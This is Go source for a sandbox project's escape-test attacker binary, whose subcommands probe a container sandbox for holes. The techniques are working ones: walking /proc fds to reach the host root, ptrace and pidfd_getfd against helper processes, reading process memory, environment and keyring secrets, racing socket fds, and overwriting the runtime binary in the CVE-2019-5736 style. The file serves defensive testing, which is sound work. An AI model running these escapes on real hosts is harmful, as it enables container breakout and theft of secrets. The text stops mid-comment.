// Command attack is the attacker the escape tests (integration/escape_test.go)
// run inside a sandbox. It is static (CGO_ENABLED=0) so it runs in any image.
// Each subcommand prints machine-checkable lines: "HOLE ..." for a hole
// reached, "INFO ..." for facts, and "OK ..." at the end when it found none.
// It never writes to a host file it reaches: reaching is the evidence (except
// where a subcommand says it creates a marker file).
//
//	attack fdwalk   -marker PATH [-pids 1|all] [-tries N] [-timeout D] [-write]
//	attack cwdcheck -marker PATH
//	attack ptrace   [-hash SHA256]
//	attack keyring  -desc DESC [-serial N] [-host-session N]
//	attack syscalls
//	attack exewrite -hash SHA256 [-marker PATH] [-needle STR] [-hold D]
//	attack swaprace -dir DIR -target REL -n N
//	attack swaploop -dir DIR -targets A,B,C
//	attack rocheck  -under DIR -marker NAME
//	attack ttycheck [-out FILE]
//	attack ttyread  -out FILE -for D
//	attack tiocsti
//	attack spawnrace -marker PATH [-for D] [-out FILE]
//	attack subreap CMD [ARG...]
//	attack spawner SOCKET
//	attack sleep D
//	attack tcpask HOST:PORT MSG | tcpserve PORT
//	attack bypassrace -host HOST:PORT -loop PORT [-n N]
package main

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack SUBCOMMAND [flags]")
		os.Exit(2)
	}
	sub, args := os.Args[1], os.Args[2:]
	fs := flag.NewFlagSet(sub, flag.ExitOnError)
	var holes int
	hole := func(format string, a ...any) {
		holes++
		fmt.Printf("HOLE "+format+"\n", a...)
	}
	switch sub {
	case "fdwalk":
		marker := fs.String("marker", "", "absolute host path of a file that exists only on the host")
		pids := fs.String("pids", "1", "1, self or all")
		tries := fs.Int("tries", 1, "rounds")
		timeout := fs.Duration("timeout", 20*time.Second, "bound on all rounds")
		outFile := fs.String("out", "", "also write the report to this file (FILE.tmp, renamed when done)")
		fs.Parse(args)
		if *outFile != "" {
			var buf strings.Builder
			old := os.Stdout
			r, w, _ := os.Pipe()
			os.Stdout = w
			done := make(chan struct{})
			go func() { io.Copy(&buf, r); close(done) }()
			// main's deferred calls run after its final "OK".
			defer func() {
				w.Close()
				<-done
				os.Stdout = old
				os.WriteFile(*outFile+".tmp", []byte(buf.String()), 0o644)
				os.Rename(*outFile+".tmp", *outFile)
				fmt.Print(buf.String())
				os.Exit(0)
			}()
		}
		deadline := time.Now().Add(*timeout)
		seen := map[string]bool{}
		for i := 0; i < *tries && time.Now().Before(deadline); i++ {
			for _, pid := range pidList(*pids) {
				fdwalk(pid, *marker, seen, hole)
			}
		}
	case "cwdcheck":
		marker := fs.String("marker", "", "absolute host path of a file that exists only on the host")
		fs.Parse(args)
		cwdcheck(*marker, hole)
	case "ptrace":
		pid1 := fs.Bool("pid1", true, "attack pid 1 (false where pid 1 is the command itself, as in podman)")
		fs.Parse(args)
		ptraceAll(*pid1, hole)
	case "keyring":
		desc := fs.String("desc", "", "description of the host's key")
		serial := fs.Int("serial", 0, "the host key's serial")
		hostSession := fs.Int("host-session", 0, "the host's session keyring serial")
		fs.Parse(args)
		keyring(*desc, *serial, *hostSession, hole)
	case "syscalls":
		fs.Parse(args)
		syscalls()
		return
	case "exewrite":
		hash := fs.String("hash", "", "sha256 of the host's usandbox binary")
		marker := fs.String("marker", "", "absolute host path of a file in the store")
		needle := fs.String("needle", "", "a host path (the store) that must not be visible")
		hold := fs.Duration("hold", 0, "keep trying to reopen held exe fds for writing this long")
		fs.Parse(args)
		exewrite(*hash, *marker, *needle, *hold, hole)
	case "swaprace":
		dir := fs.String("dir", "/race", "directory to fill and swap")
		target := fs.String("target", "", "relative symlink target")
		n := fs.Int("n", 8, "directories")
		fs.Parse(args)
		swaprace(*dir, *target, *n)
		return
	case "swaploop":
		dir := fs.String("dir", "", "path to swap")
		targets := fs.String("targets", "", "symlink targets, comma separated")
		dur := fs.Duration("for", 60*time.Second, "bound")
		fs.Parse(args)
		swaploop(*dir, strings.Split(*targets, ","), *dur)
		return
	case "rocheck":
		under := fs.String("under", "/v", "volume root")
		marker := fs.String("marker", "", "file name that marks the read-only volume")
		fs.Parse(args)
		rocheck(*under, *marker, hole)
	case "ttycheck":
		out := fs.String("out", "", "file to write the report to")
		fs.Parse(args)
		ttycheck(*out)
		return
	case "tiocsti":
		fs.Parse(args)
		tiocsti(hole)
	case "ttyread":
		out := fs.String("out", "", "file to write what was read")
		dur := fs.Duration("for", 5*time.Second, "how long to read")
		fs.Parse(args)
		ttyread(*out, *dur)
		return
	case "withkey":
		// Host side, for hack/attack-podman.sh: join a new session
		// keyring, add a user key, then exec the command with {serial}
		// and {session} replaced.
		desc := fs.String("desc", "", "key description")
		fs.Parse(args)
		withKey(*desc, fs.Args())
		return
	case "spawnrace":
		marker := fs.String("marker", "", "absolute host path of a file that exists only on the host")
		dur := fs.Duration("for", 10*time.Second, "bound")
		outFile := fs.String("out", "", "also write the report to this file (FILE.tmp, renamed when done)")
		ready := fs.String("ready", "", "file created once the loop runs")
		fs.Parse(args)
		var buf strings.Builder
		report := func(format string, a ...any) {
			holes++
			fmt.Fprintf(&buf, "HOLE "+format+"\n", a...)
		}
		n := spawnrace(*marker, *dur, *ready, report)
		fmt.Fprintf(&buf, "INFO %d processes seen\n", n)
		if holes == 0 {
			buf.WriteString("OK\n")
		}
		fmt.Print(buf.String())
		if *outFile != "" {
			os.WriteFile(*outFile+".tmp", []byte(buf.String()), 0o644)
			os.Rename(*outFile+".tmp", *outFile)
		}
		return
	case "spawner":
		// Host side, for the OCI tests: a child subreaper that runs the
		// commands it is sent (spawnRequest) and reaps every process
		// that falls to it, as conmon and containerd's shim do.
		os.Exit(spawner(args))
	case "subreap":
		// Host side, for the OCI tests: a child subreaper that runs the
		// command and reaps it and every orphan that falls to it (the
		// containers' processes once their runtime has exited) until the
		// command exits; it exits with the command's status.
		os.Exit(subreap(args))
	case "sleep":
		d, _ := time.ParseDuration(args[0])
		time.Sleep(d)
		return
	case "udpecho":
		// Not an attack: a UDP peer for the network tests (busybox's nc
		// has no UDP). udpecho PORT answers each datagram "udp:" + it.
		c, err := net.ListenPacket("udp4", ":"+args[0])
		if err != nil {
			fmt.Fprintln(os.Stderr, "udpecho:", err)
			os.Exit(1)
		}
		buf := make([]byte, 2048)
		for {
			n, from, err := c.ReadFrom(buf)
			if err != nil {
				os.Exit(1)
			}
			c.WriteTo(append([]byte("udp:"), buf[:n]...), from)
		}
	case "tcpask":
		// tcpask HOST:PORT MESSAGE: "LOCAL addr" (the socket's own
		// address: a bypassed one is the host's), then the answer's
		// first line.
		c, err := net.DialTimeout("tcp4", args[0], 3*time.Second)
		if err != nil {
			fmt.Fprintln(os.Stderr, "tcpask:", err)
			os.Exit(1)
		}
		fmt.Println("LOCAL", c.LocalAddr())
		c.SetDeadline(time.Now().Add(3 * time.Second))
		fmt.Fprintln(c, args[1])
		buf := make([]byte, 2048)
		n, err := c.Read(buf)
		if err != nil {
			fmt.Fprintln(os.Stderr, "tcpask:", err)
			os.Exit(1)
		}
		fmt.Print("REPLY ", string(buf[:n]))
		return
	case "tcpserve":
		// tcpserve PORT answers each connection "peer=ADDR" (the
		// client's address as the server sees it).
		l, err := net.Listen("tcp4", ":"+args[0])
		if err != nil {
			fmt.Fprintln(os.Stderr, "tcpserve:", err)
			os.Exit(1)
		}
		fmt.Println("LISTENING")
		for {
			c, err := l.Accept()
			if err != nil {
				os.Exit(1)
			}
			fmt.Fprintf(c, "peer=%s\n", c.RemoteAddr())
			c.Close()
		}
	case "bypassrace":
		// bypassrace -host HOST:PORT -loop PORT -n N: with a host socket
		// in hand (a bypassed connection to -host), race connect and
		// listen calls that the handler lets the kernel finish (unix
		// sockets) against dup2 of the host socket onto their fd and a
		// rewrite of their address to 127.0.0.1:-loop. A host listener
		// there seeing a connection, or a host socket left listening,
		// is the hole; the test watches the first, this the second.
		hostAddr := fs.String("host", "", "")
		loop := fs.Int("loop", 0, "")
		n := fs.Int("n", 20000, "")
		fs.Parse(args)
		for _, h := range bypassRace(*hostAddr, *loop, *n) {
			hole("%s", h)
		}
	case "udpask":
		// udpask HOST:PORT MESSAGE prints the answer (3 s at most).
		c, err := net.Dial("udp4", args[0])
		if err == nil {
			c.SetDeadline(time.Now().Add(3 * time.Second))
			_, err = c.Write([]byte(args[1]))
		}
		buf := make([]byte, 2048)
		n := 0
		if err == nil {
			n, err = c.Read(buf)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "udpask:", err)
			os.Exit(1)
		}
		fmt.Println(string(buf[:n]))
		return
	default:
		fmt.Fprintln(os.Stderr, "unknown subcommand", sub)
		os.Exit(2)
	}
	if holes == 0 {
		fmt.Println("OK")
	}
}

func init() { runtime.LockOSThread() }

// bypassRace is the attack of "attack bypassrace".
func bypassRace(hostAddr string, loop, n int) []string {
	c, err := net.Dial("tcp4", hostAddr)
	if err != nil {
		return []string{"cannot reach -host: " + err.Error()}
	}
	raw, _ := c.(*net.TCPConn).File()
	host := int(raw.Fd())
	fmt.Println("INFO host socket local", c.LocalAddr())
	// The address both threads use: a unix path, rewritten to
	// 127.0.0.1:loop and back, and to AF_UNSPEC.
	var buf [110]byte
	un := func() {
		binary.LittleEndian.PutUint16(buf[0:], unix.AF_UNIX)
		copy(buf[2:], "/nonexistent-bypassrace\x00")
	}
	in := func() {
		binary.LittleEndian.PutUint16(buf[0:], unix.AF_INET)
		binary.BigEndian.PutUint16(buf[2:], uint16(loop))
		copy(buf[4:8], []byte{127, 0, 0, 1})
	}
	unspec := func() { binary.LittleEndian.PutUint16(buf[0:], unix.AF_UNSPEC) }
	un()
	const slot = 900
	var stop atomic.Bool
	go func() {
		runtime.LockOSThread()
		for i := 0; !stop.Load(); i++ {
			switch i % 3 {
			case 0:
				in()
			case 1:
				unspec()
			default:
				un()
			}
			if i%2 == 0 {
				unix.Dup2(host, slot)
			} else if u, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
				unix.Dup2(u, slot)
				unix.Close(u)
			}
		}
	}()
	var holes []string
	for i := 0; i < n; i++ {
		if u, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
			unix.Dup2(u, slot)
			unix.Close(u)
		}
		unix.Syscall(unix.SYS_CONNECT, slot, uintptr(unsafe.Pointer(&buf[0])), 110)
		unix.Syscall(unix.SYS_LISTEN, slot, 1, 0)
	}
	stop.Store(true)
	// Whatever the race did, the host socket must not listen.
	if v, err := unix.GetsockoptInt(host, unix.SOL_SOCKET, unix.SO_ACCEPTCONN); err == nil && v == 1 {
		sa, _ := unix.Getsockname(host)
		holes = append(holes, fmt.Sprintf("the host socket listens (%v)", sa))
	}
	fmt.Println("INFO tries", n)
	return holes
}

func withKey(desc string, argv []string) {
	sess, err := unix.KeyctlJoinSessionKeyring("attack-" + desc)
	if err != nil {
		fmt.Fprintln(os.Stderr, "keyctl join:", err)
		os.Exit(1)
	}
	key, err := unix.AddKey("user", desc, []byte("the caller's secret"), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		fmt.Fprintln(os.Stderr, "add_key:", err)
		os.Exit(1)
	}
	for i, a := range argv {
		a = strings.ReplaceAll(a, "{serial}", strconv.Itoa(key))
		argv[i] = strings.ReplaceAll(a, "{session}", strconv.Itoa(sess))
	}
	path, err := execLookPath(argv[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	err = syscall.Exec(path, argv, os.Environ())
	fmt.Fprintln(os.Stderr, "exec:", err)
	os.Exit(1)
}

func execLookPath(name string) (string, error) {
	if strings.Contains(name, "/") {
		return name, nil
	}
	for _, d := range filepath.SplitList(os.Getenv("PATH")) {
		p := filepath.Join(d, name)
		if fi, err := os.Stat(p); err == nil && fi.Mode().IsRegular() && fi.Mode()&0o111 != 0 {
			return p, nil
		}
	}
	return "", fmt.Errorf("%s: not found in PATH", name)
}

func pidList(which string) []int {
	switch which {
	case "self":
		return []int{os.Getpid()}
	case "all":
		var out []int
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
				out = append(out, pid)
			}
		}
		return out
	}
	var out []int
	for _, f := range strings.Split(which, ",") {
		if pid, err := strconv.Atoi(f); err == nil {
			out = append(out, pid)
		}
	}
	return out
}

// reachesHost walks ".." from the directory fd until it stops moving and
// reports whether the host-only marker (its full path, or any tail of it:
// the walk may stop at the root of a /tmp mount) is reachable on the way.
func reachesHost(fd int, marker string) bool {
	if marker == "" {
		return false
	}
	parts := strings.Split(strings.Trim(marker, "/"), "/")
	cur, err := unix.Dup(fd)
	if err != nil {
		return false
	}
	defer func() { unix.Close(cur) }()
	for i := 0; i < 256; i++ {
		for j := range parts {
			var st unix.Stat_t
			if unix.Fstatat(cur, strings.Join(parts[j:], "/"), &st, unix.AT_SYMLINK_NOFOLLOW) == nil {
				return true
			}
		}
		up, err := unix.Openat(cur, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return false
		}
		var a, b unix.Stat_t
		unix.Fstat(cur, &a)
		unix.Fstat(up, &b)
		unix.Close(cur)
		cur = up
		if a.Dev == b.Dev && a.Ino == b.Ino {
			return false
		}
	}
	return false
}

func fdwalk(pid int, marker string, seen map[string]bool, hole func(string, ...any)) {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	ents, err := os.ReadDir(dir)
	if err != nil {
		return
	}
	for _, e := range ents {
		p := dir + "/" + e.Name()
		target, _ := os.Readlink(p)
		key := fmt.Sprintf("%d/%s/%s", pid, e.Name(), target)
		if !seen["info"+key] {
			seen["info"+key] = true
			fmt.Printf("INFO pid=%d fd=%s -> %s\n", pid, e.Name(), target)
		}
		fd, err := unix.Open(p, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if reachesHost(fd, marker) && !seen["hole"+key] {
			seen["hole"+key] = true
			hole("fd pid=%d fd=%s -> %s reaches the host root (%s exists from there)", pid, e.Name(), target, marker)
		}
		unix.Close(fd)
	}
	for _, l := range []string{"cwd", "root"} {
		p := fmt.Sprintf("/proc/%d/%s", pid, l)
		fd, err := unix.Open(p, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if reachesHost(fd, marker) && !seen["hole"+p] {
			seen["hole"+p] = true
			target, _ := os.Readlink(p)
			hole("%s -> %s reaches the host root", p, target)
		}
		unix.Close(fd)
	}
}

// cwdcheck: the working directory must lie inside the sandbox's root.
func cwdcheck(marker string, hole func(string, ...any)) {
	wd, err := unix.Getwd()
	fmt.Printf("INFO getcwd=%q err=%v\n", wd, err)
	if err != nil || !strings.HasPrefix(wd, "/") {
		hole("cwd %q is not a path inside the root (getcwd: %v)", wd, err)
	}
	fd, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Printf("INFO open .: %v\n", err)
		return
	}
	defer unix.Close(fd)
	if reachesHost(fd, marker) {
		hole("cwd reaches the host root (%s exists from ..)", marker)
	}
	// The classic payload: a relative write up and out.
	if marker != "" {
		for depth := 1; depth <= 16; depth++ {
			rel := strings.Repeat("../", depth) + strings.TrimPrefix(filepath.Dir(marker), "/") + "/owned-cwd"
			if f, err := os.OpenFile(rel, os.O_WRONLY|os.O_CREATE, 0o644); err == nil {
				f.Close()
				hole("created %s through the cwd", rel)
				break
			}
		}
	}
}

// ptraceAll attacks pid 1 and every process that looks like a usandbox
// helper (not the sandbox's own command).
func ptraceAll(pid1 bool, hole func(string, ...any)) {
	runtime.LockOSThread()
	self := os.Getpid()
	for _, pid := range pidList("all") {
		comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		c := strings.TrimSpace(string(comm))
		exe, exeErr := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
		helper := pid == 1 && pid1 || strings.Contains(c, "usandbox") || c == "exe" || strings.Contains(exe, "usandbox") || (exeErr != nil && !os.IsNotExist(exeErr))
		if pid == self || !helper {
			fmt.Printf("INFO pid=%d comm=%s exe=%s skipped (the sandbox's own process)\n", pid, c, exe)
			continue
		}
		if ppid(pid) == self {
			continue
		}
		fmt.Printf("INFO target pid=%d comm=%s exe=%q (%v)\n", pid, c, exe, exeErr)
		if err := unix.PtraceAttach(pid); err == nil {
			hole("PTRACE_ATTACH pid=%d (%s) succeeded", pid, c)
			var ws unix.WaitStatus
			unix.Wait4(pid, &ws, unix.WALL, nil)
			unix.PtraceDetach(pid)
		} else {
			fmt.Printf("INFO PTRACE_ATTACH pid=%d: %v\n", pid, err)
		}
		if err := unix.PtraceSeize(pid); err == nil {
			hole("PTRACE_SEIZE pid=%d (%s) succeeded", pid, c)
			unix.PtraceDetach(pid)
		} else {
			fmt.Printf("INFO PTRACE_SEIZE pid=%d: %v\n", pid, err)
		}
		for _, f := range []string{"environ", "mem", "auxv", "syscall"} {
			p := fmt.Sprintf("/proc/%d/%s", pid, f)
			fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				fmt.Printf("INFO open %s: %v\n", p, err)
				continue
			}
			buf := make([]byte, 64)
			var n int
			if f == "mem" {
				n, err = unix.Pread(fd, buf, int64(firstMapping(pid)))
			} else {
				n, err = unix.Read(fd, buf)
			}
			unix.Close(fd)
			if err == nil && n > 0 {
				hole("read %s (%d bytes)", p, n)
			} else {
				fmt.Printf("INFO read %s: %d %v\n", p, n, err)
			}
		}
		for _, l := range []string{"exe", "cwd", "root"} {
			p := fmt.Sprintf("/proc/%d/%s", pid, l)
			if t, err := os.Readlink(p); err == nil {
				hole("readlink %s = %s", p, t)
			}
			if fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				hole("opened %s", p)
				unix.Close(fd)
			}
		}
		if ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
			hole("listed /proc/%d/fd (%d entries)", pid, len(ents))
		}
		if pfd, err := unix.PidfdOpen(pid, 0); err == nil {
			for n := 0; n < 64; n++ {
				if fd, err := unix.PidfdGetfd(pfd, n, 0); err == nil {
					target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
					hole("pidfd_getfd pid=%d fd=%d took %s", pid, n, target)
					unix.Close(fd)
				} else if n == 0 {
					fmt.Printf("INFO pidfd_getfd pid=%d fd=0: %v\n", pid, err)
				}
			}
			unix.Close(pfd)
		}
		if a := firstMapping(pid); a != 0 {
			buf := make([]byte, 16)
			local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
			remote := []unix.RemoteIovec{{Base: uintptr(a), Len: len(buf)}}
			if n, err := unix.ProcessVMReadv(pid, local, remote, 0); err == nil && n > 0 {
				hole("process_vm_readv pid=%d read %d bytes", pid, n)
			} else {
				fmt.Printf("INFO process_vm_readv pid=%d: %v\n", pid, err)
			}
		} else {
			// No maps readable: try a typical address anyway.
			buf := make([]byte, 16)
			local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
			remote := []unix.RemoteIovec{{Base: 0x400000, Len: len(buf)}}
			if n, err := unix.ProcessVMReadv(pid, local, remote, 0); err == nil && n > 0 {
				hole("process_vm_readv pid=%d read %d bytes at 0x400000", pid, n)
			} else {
				fmt.Printf("INFO process_vm_readv pid=%d: %v\n", pid, err)
			}
		}
	}
}

func ppid(pid int) int {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return -1
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	if i < 0 {
		return -1
	}
	f := strings.Fields(s[i+1:])
	if len(f) < 2 {
		return -1
	}
	n, _ := strconv.Atoi(f[1])
	return n
}

func firstMapping(pid int) uint64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil || len(b) == 0 {
		return 0
	}
	a, _, _ := strings.Cut(string(b), "-")
	v, _ := strconv.ParseUint(a, 16, 64)
	return v
}

func keyring(desc string, serial, hostSession int, hole func(string, ...any)) {
	runtime.LockOSThread()
	sess, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	fmt.Printf("INFO session keyring serial=%d err=%v\n", sess, err)
	if err == nil {
		d, derr := unix.KeyctlString(unix.KEYCTL_DESCRIBE, sess)
		fmt.Printf("INFO session keyring describe=%q err=%v\n", d, derr)
		if hostSession != 0 && sess == hostSession {
			hole("the session keyring is the caller's (serial %d)", sess)
		}
		buf := make([]byte, 4096)
		n, rerr := unix.KeyctlBuffer(unix.KEYCTL_READ, sess, buf, 0)
		if rerr == nil {
			fmt.Printf("INFO session keyring holds %d keys\n", n/4)
			if n > 0 {
				hole("the session keyring is not empty (%d keys)", n/4)
			}
		} else {
			fmt.Printf("INFO reading the session keyring: %v\n", rerr)
		}
	}
	if desc != "" {
		if id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", desc, 0); err == nil {
			hole("found the caller's key %q (serial %d) in the session keyring", desc, id)
		}
		if id, err := unix.RequestKey("user", desc, "", 0); err == nil {
			hole("request_key found the caller's key %q (serial %d)", desc, id)
		}
	}
	if serial != 0 {
		buf := make([]byte, 256)
		if n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, serial, buf, 0); err == nil {
			hole("read the caller's key %d: %q", serial, buf[:min(n, len(buf))])
		} else {
			fmt.Printf("INFO reading key %d: %v\n", serial, err)
		}
		// Describing needs only the key's "user view" permission, which
		// any process of the same uid has: not evidence of possession.
		if d, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, serial); err == nil {
			fmt.Printf("INFO described key %d: %q\n", serial, d)
		}
	}
	if b, err := os.ReadFile("/proc/keys"); err == nil && desc != "" && strings.Contains(string(b), desc) {
		hole("/proc/keys shows %q", desc)
	}
}

// syscalls calls each syscall a default seccomp profile blocks, with
// harmless arguments, and prints "SYSCALL NAME ERRNO" (ERRNO is "0" on
// success). None of them changes anything outside this process.
func syscalls() {
	runtime.LockOSThread()
	report := func(name string, r1 uintptr, e syscall.Errno) {
		s := "0"
		if e != 0 {
			s = errnoName(e)
		}
		fmt.Printf("SYSCALL %s %s\n", name, s)
		_ = r1
	}
	raw := func(name string, nr uintptr, a ...uintptr) {
		var args [6]uintptr
		copy(args[:], a)
		r1, _, e := unix.RawSyscall6(nr, args[0], args[1], args[2], args[3], args[4], args[5])
		if e == 0 && (name == "io_uring_setup" || name == "perf_event_open" || name == "userfaultfd" || name == "bpf") {
			unix.Close(int(r1))
		}
		report(name, r1, e)
	}
	params := make([]byte, 120)
	raw("io_uring_setup", unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])))
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{}))}
	attr.Bits = unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv
	raw("perf_event_open", unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr)), 0, ^uintptr(0), ^uintptr(0), 0)
	typ, _ := unix.BytePtrFromString("user")
	desc, _ := unix.BytePtrFromString("usandbox-attack-probe")
	payload := []byte("x")
	raw("add_key", unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(typ)), uintptr(unsafe.Pointer(desc)), uintptr(unsafe.Pointer(&payload[0])), 1, uintptr(0xfffffffc) /* KEY_SPEC_PROCESS_KEYRING */)
	raw("keyctl", unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(0xfffffffd) /* KEY_SPEC_SESSION_KEYRING */, 0)
	raw("request_key", unix.SYS_REQUEST_KEY, uintptr(unsafe.Pointer(typ)), uintptr(unsafe.Pointer(desc)), 0, 0)
	// 0x0040000 is ADDR_NO_RANDOMIZE: docker allows only 0, 0x8, 0x20000,
	// 0x20008 and 0xffffffff (query).
	old, _, _ := unix.RawSyscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
	raw("personality", unix.SYS_PERSONALITY, 0x0040000)
	unix.RawSyscall(unix.SYS_PERSONALITY, old, 0, 0)
	raw("bpf", unix.SYS_BPF, 0 /* BPF_MAP_CREATE */, 0, 0)
	raw("userfaultfd", unix.SYS_USERFAULTFD, unix.O_CLOEXEC|1 /* UFFD_USER_MODE_ONLY */)
	raw("kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0)
	raw("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, ^uintptr(0) /* -1: EBADF */, 0, 0)
	raw("init_module", unix.SYS_INIT_MODULE, 0, 0, 0)
	raw("unshare_newuser", unix.SYS_UNSHARE, unix.CLONE_NEWUSER)
	src, _ := unix.BytePtrFromString("none")
	dst, _ := unix.BytePtrFromString("/nonexistent-attack-mount")
	fst, _ := unix.BytePtrFromString("tmpfs")
	raw("mount", unix.SYS_MOUNT, uintptr(unsafe.Pointer(src)), uintptr(unsafe.Pointer(dst)), uintptr(unsafe.Pointer(fst)), 0, 0)
	// Clock id -1 is invalid: EINVAL if the call gets through.
	raw("clock_settime", unix.SYS_CLOCK_SETTIME, ^uintptr(0), 0)
	sw, _ := unix.BytePtrFromString("/nonexistent-attack-swap")
	raw("swapon", unix.SYS_SWAPON, uintptr(unsafe.Pointer(sw)), 0)
	// file_setattr (469, Linux 6.17) is newer than docker's profile; with
	// bad arguments it fails with EINVAL (or EBADF) when it gets through,
	// ENOSYS on an older kernel.
	raw("newer_469", 469, ^uintptr(0), 0, 0, 0, 0)
}

func errnoName(e syscall.Errno) string {
	names := map[syscall.Errno]string{unix.EPERM: "EPERM", unix.ENOSYS: "ENOSYS", unix.EINVAL: "EINVAL", unix.EFAULT: "EFAULT",
		unix.EACCES: "EACCES", unix.EBADF: "EBADF", unix.ENOENT: "ENOENT", unix.ENOKEY: "ENOKEY", unix.EOPNOTSUPP: "EOPNOTSUPP",
		unix.E2BIG: "E2BIG", unix.ENOMEM: "ENOMEM", unix.ENOTDIR: "ENOTDIR", unix.EBUSY: "EBUSY", unix.ENODEV: "ENODEV"}
	if n, ok := names[e]; ok {
		return n
	}
	return "E" + strconv.Itoa(int(e))
}

func sha(f *os.File) string {
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		return ""
	}
	return hex.EncodeToString(h.Sum(nil))
}

// exewrite tries to reach the runtime binary (by content hash) through
// every process's exe and fds, to open it for writing, and to reach the
// store (needle/marker).
func exewrite(hash, marker, needle string, hold time.Duration, hole func(string, ...any)) {
	var held []*os.File
	self := os.Getpid()
	try := func(p string) {
		f, err := os.Open(p)
		if err != nil {
			return
		}
		fi, err := f.Stat()
		if err != nil || !fi.Mode().IsRegular() || fi.Size() < 1<<20 {
			f.Close()
			return
		}
		if h := sha(f); h != hash {
			f.Close()
			return
		}
		if l, _ := os.Readlink(p); strings.HasPrefix(l, "/memfd:") {
			// A copy in memory (runc's cloned binary): writing it
			// changes no file of the host.
			fmt.Printf("INFO %s is a copy of the binary in memory (%s)\n", p, l)
			f.Close()
			return
		}
		fmt.Printf("INFO %s is the host's usandbox binary (readable)\n", p)
		held = append(held, f)
		if w, err := os.OpenFile(p, os.O_WRONLY, 0); err == nil {
			w.Close()
			hole("opened %s (the host's usandbox binary) for writing", p)
		} else {
			fmt.Printf("INFO open %s for writing: %v\n", p, err)
		}
		if w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0); err == nil {
			w.Close()
			hole("reopened %s (the host's usandbox binary) for writing via /proc/self/fd", p)
		}
		// Replace it by name: rename a file over the magic link.
		tmp := fmt.Sprintf("/tmp/attack-replace-%d", self)
		if err := os.WriteFile(tmp, []byte("#!/bin/sh\n"), 0o755); err == nil {
			if err := unix.Renameat(unix.AT_FDCWD, tmp, unix.AT_FDCWD, p); err == nil {
				hole("renamed a file over %s", p)
			}
			os.Remove(tmp)
		}
	}
	for _, pid := range pidList("all") {
		try(fmt.Sprintf("/proc/%d/exe", pid))
		if ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
			for _, e := range ents {
				try(fmt.Sprintf("/proc/%d/fd/%s", pid, e.Name()))
			}
		}
		for _, f := range []string{"maps", "mountinfo"} {
			if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f)); err == nil && needle != "" && strings.Contains(string(b), needle) {
				fmt.Printf("INFO /proc/%d/%s names the store (%s)\n", pid, f, needle)
			}
		}
		for _, l := range []string{"cwd", "root"} {
			if t, err := os.Readlink(fmt.Sprintf("/proc/%d/%s", pid, l)); err == nil && needle != "" && strings.HasPrefix(t, needle) {
				fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, l), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
				if err == nil {
					hole("/proc/%d/%s -> %s is in the store and opens", pid, l, t)
					unix.Close(fd)
				}
			}
		}
	}
	seen := map[string]bool{}
	if marker != "" {
		for _, pid := range pidList("all") {
			fdwalk(pid, marker, seen, hole)
		}
		fdwalk(self, marker, seen, hole)
		var st unix.Stat_t
		if unix.Stat(marker, &st) == nil {
			hole("the store's marker %s is visible at its host path", marker)
		}
	}
	if needle != "" {
		var st unix.Stat_t
		if unix.Stat(needle, &st) == nil {
			hole("the store %s is visible at its host path", needle)
		}
	}
	// CVE-2019-5736: keep watching for new processes (an exec's helper
